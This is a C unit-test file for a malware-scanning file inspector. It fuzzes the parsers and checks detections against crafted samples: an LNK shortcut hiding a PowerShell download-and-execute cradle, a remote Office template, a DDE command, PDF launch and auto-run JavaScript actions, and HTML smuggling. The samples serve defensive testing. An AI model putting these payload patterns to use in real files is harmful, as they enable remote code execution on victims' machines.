/*
 * test-files-parsers: each inspector on crafted and broken input. Broken
 * input (truncated, bit-flipped, looping chains) must end with a result and
 * no crash (this suite also runs under ASan in build-asan); crafted input
 * must give the named finding.
 */
#include "files/files-private.h"
#include "files/test-files-common.h"

static struct gv_files_engine *engine;

static int setup(void **state)
{
	(void)state;
	engine = test_engine();
	return 0;
}

static int teardown(void **state)
{
	(void)state;
	gv_files_engine_free(&engine);
	return 0;
}

static void expect(const char *data, size_t len, const char *name,
		   const char *body, const char *rule)
{
	static struct rec r;

	inspect(engine, &r, data, len, name, body, NULL);
	if (rec_has(&r, rule) == NULL)
		fail_msg("%s: no %s", name, rule);
}

/* ---- MS-OVBA decompression: the examples of [MS-OVBA] 3.2 ---- */

static void test_ovba_vectors(void **state)
{
	static const unsigned char raw[] = {
		0x01, 0x19, 0xB0, 0x00, 'a', 'b', 'c', 'd', 'e', 'f', 'g', 'h',
		0x00, 'i', 'j', 'k', 'l', 'm', 'n', 'o', 'p', 0x00, 'q', 'r',
		's', 't', 'u', 'v', '.',
	};
	static const unsigned char comp[] = {
		0x01, 0x2F, 0xB0, 0x00, 0x23, 0x61, 0x61, 0x61, 0x62, 0x63, 0x64,
		0x65, 0x82, 0x66, 0x00, 0x70, 0x61, 0x67, 0x68, 0x69, 0x6A, 0x01,
		0x38, 0x08, 0x61, 0x6B, 0x6C, 0x00, 0x30, 0x6D, 0x6E, 0x6F, 0x70,
		0x06, 0x71, 0x02, 0x70, 0x04, 0x10, 0x72, 0x73, 0x74, 0x75, 0x76,
		0x10, 0x77, 0x78, 0x79, 0x7A, 0x00, 0x3C,
	};
	static const char want[] =
		"#aaabcdefaaaaghijaaaaaklaaamnopqaaaaaaaaaaaarstuvwxyzaaa";
	struct gv_buf out;

	(void)state;
	gv_buf_init(&out, 4096);
	assert_int_equal(gvf_ovba_decompress(raw, sizeof(raw), &out), 1);
	assert_int_equal(out.len, 23);
	assert_memory_equal(out.data, "abcdefghijklmnopqrstuv.", 23);
	gv_buf_reset(&out);
	assert_int_equal(gvf_ovba_decompress(comp, sizeof(comp), &out), 1);
	assert_int_equal(out.len, strlen(want));
	assert_memory_equal(out.data, want, strlen(want));
	/* Bad signature, bad chunk signature, a copy token reaching back
	 * before the chunk start, output cut by the buffer's max. */
	gv_buf_reset(&out);
	assert_int_equal(gvf_ovba_decompress((const unsigned char *)"\x02\x19\xB0", 3, &out), -1);
	assert_int_equal(gvf_ovba_decompress((const unsigned char *)"\x01\x19\x00", 3, &out), -1);
	assert_int_equal(gvf_ovba_decompress((const unsigned char *)"\x01\x03\xB0\x01\xFF\xFF", 6, &out), -1);
	gv_buf_free(&out);
	gv_buf_init(&out, 10);
	assert_int_equal(gvf_ovba_decompress(comp, sizeof(comp), &out), 0);
	assert_int_equal(out.len, 10);
	gv_buf_free(&out);
}

/* ---- broken input: truncations and bit flips of real files ---- */

static void mangle_all(const char *corpus_name, enum gvf_format fmt)
{
	char rel[256];
	size_t len;
	unsigned char *orig, *d;
	uint64_t seed = 0x9E3779B97F4A7C15ull;
	struct gv_files_sink sink = { NULL, NULL, NULL };

	snprintf(rel, sizeof(rel), "corpora/malware_test/clamav-testfiles/%s",
		 corpus_name);
	orig = load_shared(rel, &len);
	d = malloc(len);
	/* Every truncation on a 61-byte grid, then 300 random corruptions. */
	for (size_t cut = 0; cut < len; cut += 61) {
		struct gv_pool *pool = gv_pool_new(4096);

		memcpy(d, orig, cut);
		assert_true(gvf_inspect_format(engine, pool, d, cut, fmt, NULL,
					       &sink) >= 0);
		gv_pool_free(&pool);
	}
	for (int round = 0; round < 300; round++) {
		struct gv_pool *pool = gv_pool_new(4096);

		memcpy(d, orig, len);
		for (int k = 0; k < 1 + round % 8; k++) {
			seed ^= seed << 13;
			seed ^= seed >> 7;
			seed ^= seed << 17;
			/* Half of the flips go to the first 1 KiB: headers,
			 * FAT/directory pointers, dictionaries. */
			size_t at = (k & 1) ? seed % (len < 1024 ? len : 1024) : seed % len;

			d[at] = (unsigned char)(seed >> 24);
		}
		assert_true(gvf_inspect_format(engine, pool, d, len, fmt, NULL,
					       &sink) >= 0);
		gv_pool_free(&pool);
	}
	free(d);
	free(orig);
}

static void test_ole2_bad_input(void **state)
{
	(void)state;
	mangle_all("clam.ole.doc", GVF_FMT_OLE2);
	mangle_all("clam.ppt", GVF_FMT_OLE2);
}

static void test_ole2_fat_loop(void **state)
{
	static struct rec r;
	size_t len;
	unsigned char *d = load_shared("corpora/malware_test/clamav-testfiles/clam.ole.doc", &len);
	uint32_t dir = gvf_le32(d + 0x30), fat0 = gvf_le32(d + 0x4C);
	unsigned char *fat = d + ((size_t)fat0 + 1) * 512;

	(void)state;
	/* The directory chain points to itself, and sector 0 too. */
	memcpy(fat + 4 * dir, &dir, 4);
	memset(fat, 0, 4);
	inspect(engine, &r, d, len, "loop.doc", NULL, NULL);
	assert_true(r.ni >= 1);
	free(d);
}

static void test_pdf_bad_input(void **state)
{
	static const char cut[] = "%PDF-1.4\n1 0 obj<</Length 99999999/Filter"
				  "/FlateDecode/Type/EmbeddedFile>>stream\nx\x9c\x01\x02";

	(void)state;
	mangle_all("clam.pdf", GVF_FMT_PDF);
	/* A stream that claims more than there is and never ends. */
	expect(cut, sizeof(cut) - 1, "short.pdf", NULL, "pdf.embedded_file");
}

static void test_rtf_bad_input(void **state)
{
	static const char odd[] = "{\\rtf1{\\object\\objemb{\\*\\objdata 0102zz03"
				  "\\par 040}}}";

	(void)state;
	mangle_all("clam.exe.rtf", GVF_FMT_RTF);
	expect(odd, sizeof(odd) - 1, "odd.rtf", NULL, "rtf.object");
}

static void test_other_decoders_bad_input(void **state)
{
	(void)state;
	mangle_all("clam.exe.binhex", GVF_FMT_BINHEX);
	mangle_all("clam.exe.szdd", GVF_FMT_SZDD);
	mangle_all("clam.tnef", GVF_FMT_TNEF);
	mangle_all("clam.exe.mbox.uu", GVF_FMT_TEXT);
	mangle_all("clam.mail", GVF_FMT_TEXT);
	mangle_all("clam.zip", GVF_FMT_ARCHIVE);
	mangle_all("clam.7z", GVF_FMT_ARCHIVE);
}

/* A minimal OLE2 file ([MS-CFB], 512-byte sectors): sector 0 FAT, sector 1
 * directory (root + one stream), sectors 2.. the stream (>= 4096 bytes, so
 * not in the mini stream). */
static unsigned char *build_ole2(const char *stream_name, const unsigned char *data,
				 size_t len, size_t *len_r)
{
	size_t nsec = (len + 511) / 512, total = 512 * (3 + nsec);
	unsigned char *f = calloc(1, total), *h = f, *fat = f + 512, *dir = f + 1024;
	uint32_t v;

	assert_true(len >= 4096 && nsec + 2 <= 128);
	memcpy(h, "\xD0\xCF\x11\xE0\xA1\xB1\x1A\xE1", 8);
	h[0x18] = 0x3E; h[0x1A] = 3; h[0x1C] = 0xFE; h[0x1D] = 0xFF;
	h[0x1E] = 9; h[0x20] = 6;
	h[0x2C] = 1;				/* one FAT sector */
	h[0x30] = 1;				/* directory at sector 1 */
	v = 4096; memcpy(h + 0x38, &v, 4);	/* mini stream cutoff */
	v = 0xFFFFFFFE; memcpy(h + 0x3C, &v, 4); memcpy(h + 0x44, &v, 4);
	memset(h + 0x4C, 0xFF, 109 * 4);
	v = 0; memcpy(h + 0x4C, &v, 4);		/* DIFAT[0] = sector 0 */
	memset(fat, 0xFF, 512);
	v = 0xFFFFFFFD; memcpy(fat, &v, 4);	/* FAT sector */
	v = 0xFFFFFFFE; memcpy(fat + 4, &v, 4);	/* directory: one sector */
	for (size_t i = 0; i < nsec; i++) {
		v = i + 1 < nsec ? (uint32_t)(3 + i) : 0xFFFFFFFE;
		memcpy(fat + 4 * (2 + i), &v, 4);
	}
	memset(dir, 0, 512);
	for (int e = 0; e < 4; e++)
		memset(dir + 128 * e + 68, 0xFF, 12);	/* no siblings/child */
	const char *names[2] = { "Root Entry", stream_name };
	for (int e = 0; e < 2; e++) {
		size_t n = strlen(names[e]);

		for (size_t k = 0; k < n; k++)
			dir[128 * e + 2 * k] = (unsigned char)names[e][k];
		dir[128 * e + 64] = (unsigned char)(2 * (n + 1));
		dir[128 * e + 66] = e == 0 ? 5 : 2;
		dir[128 * e + 67] = 1;
	}
	v = 1; memcpy(dir + 76, &v, 4);		/* root's child: entry 1 */
	v = 0xFFFFFFFE; memcpy(dir + 116, &v, 4);
	v = 2; memcpy(dir + 128 + 116, &v, 4);	/* stream starts at sector 2 */
	v = (uint32_t)len; memcpy(dir + 128 + 120, &v, 4);
	memcpy(f + 512 * 3, data, len);
	*len_r = total;
	return f;
}

static void test_xls_macro_sheet(void **state)
{
	unsigned char biff[4096] = { 0 };
	static const unsigned char recs[] = {
		0x09, 0x08, 0x10, 0x00, 0x00, 0x06, 0x05, 0x00, 0, 0, 0, 0,
		0, 0, 0, 0, 0, 0, 0, 0,				/* BOF */
		0x85, 0x00, 0x0E, 0x00, 0, 0, 0, 0, 0x02, 0x01,	/* BoundSheet8: very hidden, macro */
		0x06, 0x00, 'M', 'a', 'c', 'r', 'o', '1',
		0x0A, 0x00, 0x00, 0x00,				/* EOF */
	};
	static struct rec r;
	size_t len;
	unsigned char *f;

	(void)state;
	memcpy(biff, recs, sizeof(recs));
	f = build_ole2("Workbook", biff, sizeof(biff), &len);
	inspect(engine, &r, f, len, "book.xls", NULL, NULL);
	assert_non_null(rec_has(&r, "office.xlm_macrosheet_hidden"));
	assert_null(rec_has(&r, "office.ole2_malformed"));
	/* The same sheet as a plain worksheet: nothing. */
	f[512 * 3 + 20 + 9] = 0x00;
	inspect(engine, &r, f, len, "book.xls", NULL, NULL);
	assert_null(rec_has(&r, "office.xlm"));
	/* The stream's chain loops back on itself: still terminates. */
	memcpy(f + 512 + 4 * 3, "\x03\x00\x00\x00", 4);
	inspect(engine, &r, f, len, "loop.xls", NULL, NULL);
	free(f);
}

static void test_onenote_embedded(void **state)
{
	/* Section header GUID, some bytes, then a FileDataStoreObject holding
	 * EICAR: GUID, u64 length, u32 unused, u64 reserved, data. */
	static unsigned char one[200] = {
		0xE4, 0x52, 0x5C, 0x7B, 0x8C, 0xD8, 0xA7, 0x4D,
		0xAE, 0xB1, 0x53, 0x78, 0xD0, 0x29, 0x96, 0xD3,
	};
	static const unsigned char fdso[16] = {
		0xE7, 0x16, 0xE3, 0xBD, 0x65, 0x26, 0x11, 0x45,
		0xA4, 0xC4, 0x8D, 0x4D, 0x0B, 0x7A, 0x9E, 0xAC,
	};
	static struct rec r;

	(void)state;
	memcpy(one + 40, fdso, 16);
	one[56] = (unsigned char)strlen(eicar);
	memcpy(one + 76, eicar, strlen(eicar));
	inspect(engine, &r, one, sizeof(one), "notes.one", NULL, NULL);
	assert_non_null(rec_has(&r, "type.onenote"));
	assert_non_null(rec_has(&r, "onenote.embedded_file"));
	assert_true(rec_has_at(&r, "yara.EICAR_Test_File", "notes.one/embedded-0"));
	/* A length past the end is cut to what is there. */
	one[60] = 0x7F;
	inspect(engine, &r, one, sizeof(one), "notes.one", NULL, NULL);
	assert_non_null(rec_has(&r, "onenote.embedded_file"));
}

static size_t put_u16str(unsigned char *p, const char *s)
{
	size_t n = strlen(s);

	p[0] = (unsigned char)n;
	p[1] = (unsigned char)(n >> 8);
	for (size_t i = 0; i < n; i++) {
		p[2 + 2 * i] = (unsigned char)s[i];
		p[3 + 2 * i] = 0;
	}
	return 2 + 2 * n;
}

static void test_lnk_command(void **state)
{
	static unsigned char lnk[2048];
	static struct rec r;
	size_t o = 0x4C;

	(void)state;
	/* ShellLinkHeader: size 0x4C, the shell link CLSID, LinkFlags =
	 * HasRelativePath | HasArguments | IsUnicode. */
	memcpy(lnk, "\x4C\0\0\0\x01\x14\x02\0\0\0\0\0\xC0\0\0\0\0\0\0\x46", 20);
	lnk[0x14] = 0x08 | 0x20 | 0x80;
	o += put_u16str(lnk + o, "..\\..\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe");
	o += put_u16str(lnk + o, "-w hidden -c (New-Object Net.WebClient).DownloadString("
			"'http://198.51.100.7/a')|IEX");
	inspect(engine, &r, lnk, o, "invoice.pdf.lnk", NULL, NULL);
	assert_non_null(rec_has(&r, "lnk.command"));
	assert_true(rec_has_at(&r, "yara.Script_PowerShell_Download_Cradle",
			       "invoice.pdf.lnk/shortcut-command.txt"));
	/* Cut anywhere: no crash, no overread (ASan). */
	for (size_t cut = 0; cut < o; cut += 7)
		inspect(engine, &r, lnk, cut, "cut.lnk", NULL, NULL);
}

/* libarchive 3.6.2 crashed on this cabinet (found by fuzz-files). */
static void test_cab_libarchive_crash_regression(void **state)
{
	static struct rec r;
	size_t len;
	unsigned char *d = load_shared("corpora/malware_test/clamav-testfiles/clam.cab", &len);

	(void)state;
	d[76] = 0x25;	/* cbUncomp of a stored block != cbData */
	inspect(engine, &r, d, len, "bad.cab", NULL, NULL);
	assert_non_null(rec_has(&r, "archive.malformed"));
	free(d);
}

/* ---- crafted input: the named finding ---- */

static void test_pdf_actions(void **state)
{
	static const char js[] = "%PDF-1.5\n1 0 obj<</Type/Catalog/OpenAction 2 0 R>>endobj\n"
		"2 0 obj<</S/JavaScript/JS(app.alert(1))>>endobj\n%%EOF\n";
	static const char esc[] = "%PDF-1.5\n1 0 obj<</Type/Catalog/OpenAction 2 0 R>>endobj\n"
		"2 0 obj<</S/J#61vaScript/#4AS(app.alert(1))>>endobj\n%%EOF\n";
	static const char launch[] = "%PDF-1.5\n1 0 obj<</S/Launch/F(cmd.exe)>>endobj\n";

	(void)state;
	expect(js, sizeof(js) - 1, "a.pdf", NULL, "pdf.autorun_javascript");
	expect(esc, sizeof(esc) - 1, "b.pdf", NULL, "pdf.obfuscated_name");
	expect(esc, sizeof(esc) - 1, "b.pdf", NULL, "pdf.autorun_javascript");
	expect(launch, sizeof(launch) - 1, "c.pdf", NULL, "pdf.launch");
	/* /JavaScript hidden in an ASCIIHex stream, and EICAR in an ASCII85
	 * embedded file. */
	static const char ahx[] = "%PDF-1.5\n1 0 obj<</Type/Catalog/OpenAction 2 0 R>>endobj\n"
		"3 0 obj<</Length 40/Filter[/AHx]>>stream\n"
		"2f4a617661536372697074 2f4a53>\nendstream\nendobj\n";
	static const char a85[] = "%PDF-1.5\n1 0 obj<</Type/EmbeddedFile/Filter/ASCII85Decode>>stream\n"
		"=>`kt:aJ@m:g5b]:g-sY1al1,.5sU].5uZ#77fj4;CtgH5u'g6;FE*&:/jec8Q&Pe/Q>/;<%UR29LU*M81R4\\~>\nendstream\nendobj\n";
	expect(ahx, sizeof(ahx) - 1, "d.pdf", NULL, "pdf.autorun_javascript");
	expect(a85, sizeof(a85) - 1, "e.pdf", NULL, "yara.EICAR_Test_File");
}

static void test_rtf_equation(void **state)
{
	/* OLE1 header: version, format 2, class "Equation.3", topic, item,
	 * native size 4, native data. */
	static const char rtf[] = "{\\rtf1{\\object\\objemb\\objupdate{\\*\\objclass Equation.3}"
		"{\\*\\objdata 0105000002000000"
		"0b0000004571756174696f6e2e3300" "00000000" "00000000"
		"04000000" "41414141}}}";

	(void)state;
	expect(rtf, sizeof(rtf) - 1, "eq.rtf", NULL, "rtf.equation_editor");
	expect(rtf, sizeof(rtf) - 1, "eq.rtf", NULL, "rtf.objupdate");
}

static void test_names(void **state)
{
	(void)state;
	expect("hello", 5, "invoice.pdf.exe", NULL, "name.double_extension");
	expect("hello", 5, "invoice.pdf          .exe", NULL, "name.padding");
	expect("hello", 5, "photo\xE2\x80\xAEgpj.scr", NULL, "name.unicode_trick");
	expect("hello", 5, "setup.iso", NULL, "type.disk_image");
	expect("hello", 5, "notes.one", NULL, "type.onenote");
	expect("WScript.Echo(1)", 15, "readme.js", NULL, "type.script");
	expect("hello", 5, "run.lnk", NULL, "name.executable_ext");
	/* clam.exe named like a picture */
	size_t len;
	unsigned char *d = load_shared("corpora/malware_test/clamav-testfiles/clam.exe", &len);

	expect((const char *)d, len, "holiday.jpg", NULL, "type.disguised_executable");
	free(d);
}

static void test_html_smuggling(void **state)
{
	static const char page[] = "<html><body><script>"
		"var b = atob('TVqQAAMAAAAEAAAA');var a = new Uint8Array(b.length);"
		"var blob = new Blob([a], {type: 'application/octet-stream'});"
		"var l = document.createElement('a'); l.href = URL.createObjectURL(blob);"
		"l.download = 'invoice.iso'; l.click();</script></body></html>";
	static const char data[] = "<html><a download=\"x.exe\" href=\"data:application/"
		"octet-stream;base64,WDVPIVAlQEFQWzRcUFpYNTQoUF4pN0NDKTd9JEVJQ0FSLVNUQU5E"
		"QVJELUFOVElWSVJVUy1URVNULUZJTEUhJEgrSCo=\">x</a></html>";

	(void)state;
	expect(page, sizeof(page) - 1, "invoice.html", NULL, "html.smuggling");
	expect(data, sizeof(data) - 1, "x.html", NULL, "html.data_download");
	expect(data, sizeof(data) - 1, "x.html", NULL, "yara.EICAR_Test_File");
}

static void test_password_zip(void **state)
{
	static struct rec r;
	struct entry e = { "eicar.com", eicar, strlen(eicar) };
	size_t len;
	unsigned char *z = build_archive(archive_write_set_format_zip,
					 "zip:encryption=zipcrypt", "infected",
					 &e, 1, &len);

	(void)state;
	inspect(engine, &r, z, len, "locked.zip", NULL, NULL);
	assert_non_null(rec_has(&r, "archive.encrypted"));
	assert_null(rec_has(&r, "yara.EICAR"));
	inspect(engine, &r, z, len, "locked.zip",
		"Hello,\nthe invoice is attached. The password is infected.\n", NULL);
	assert_non_null(rec_has(&r, "archive.encrypted_password_in_body"));
	/* The password from the body opened it. */
	assert_non_null(rec_has(&r, "yara.EICAR_Test_File"));
	free(z);
}

static void test_ooxml(void **state)
{
	static const char rels[] = "<?xml version=\"1.0\"?><Relationships xmlns=\"x\">"
		"<Relationship Id=\"rId1337\" Type=\"http://schemas.openxmlformats.org/"
		"officeDocument/2006/relationships/attachedTemplate\" Target=\"http://"
		"198.51.100.7/t.dotm\" TargetMode=\"External\"/></Relationships>";
	static const char doc[] = "<w:document><w:body><w:p><w:r><w:instrText>"
		"DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe \"/k calc.exe\"</w:instrText>"
		"</w:r></w:p></w:body></w:document>";
	static const char sheet[] = "<xm:macrosheet/>";
	struct entry ents[] = {
		{ "[Content_Types].xml", "<Types/>", 8 },
		{ "word/_rels/settings.xml.rels", rels, sizeof(rels) - 1 },
		{ "word/document.xml", doc, sizeof(doc) - 1 },
		{ "xl/macrosheets/sheet1.xml", sheet, sizeof(sheet) - 1 },
	};
	static struct rec r;
	size_t len;
	unsigned char *z = build_archive(archive_write_set_format_zip, NULL, NULL,
					 ents, GV_ARRAY_LEN(ents), &len);

	(void)state;
	inspect(engine, &r, z, len, "report.docx", NULL, NULL);
	assert_non_null(rec_has(&r, "office.remote_template"));
	assert_non_null(rec_has(&r, "office.dde"));
	assert_non_null(rec_has(&r, "office.xlm_macrosheet"));
	free(z);
}

static void test_archive_formats(void **state)
{
	static const struct {
		int (*format)(struct archive *);
		const char *name;
	} fmts[] = {
		{ archive_write_set_format_7zip, "x.7z" },
		{ archive_write_set_format_pax_restricted, "x.tar" },
		{ archive_write_set_format_cpio_newc, "x.cpio" },
		{ archive_write_set_format_iso9660, "x.iso" },
		{ archive_write_set_format_xar, "x.xar" },
		{ archive_write_set_format_ar_bsd, "x.a" },
	};
	struct entry e = { "eicar.com", eicar, strlen(eicar) };
	static struct rec r;

	(void)state;
	for (size_t i = 0; i < GV_ARRAY_LEN(fmts); i++) {
		size_t len;
		unsigned char *z;

		print_message("# %s\n", fmts[i].name);
		z = build_archive(fmts[i].format, NULL, NULL, &e, 1, &len);

		inspect(engine, &r, z, len, fmts[i].name, NULL, NULL);
		if (rec_has(&r, "yara.EICAR_Test_File") == NULL)
			fail_msg("EICAR not found in %s", fmts[i].name);
		free(z);
	}
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_ovba_vectors),
		cmocka_unit_test(test_ole2_bad_input),
		cmocka_unit_test(test_ole2_fat_loop),
		cmocka_unit_test(test_pdf_bad_input),
		cmocka_unit_test(test_rtf_bad_input),
		cmocka_unit_test(test_other_decoders_bad_input),
		cmocka_unit_test(test_cab_libarchive_crash_regression),
		cmocka_unit_test(test_xls_macro_sheet),
		cmocka_unit_test(test_onenote_embedded),
		cmocka_unit_test(test_lnk_command),
		cmocka_unit_test(test_pdf_actions),
		cmocka_unit_test(test_rtf_equation),
		cmocka_unit_test(test_names),
		cmocka_unit_test(test_html_smuggling),
		cmocka_unit_test(test_password_zip),
		cmocka_unit_test(test_ooxml),
		cmocka_unit_test(test_archive_formats),
	};

	return cmocka_run_group_tests(tests, setup, teardown);
}
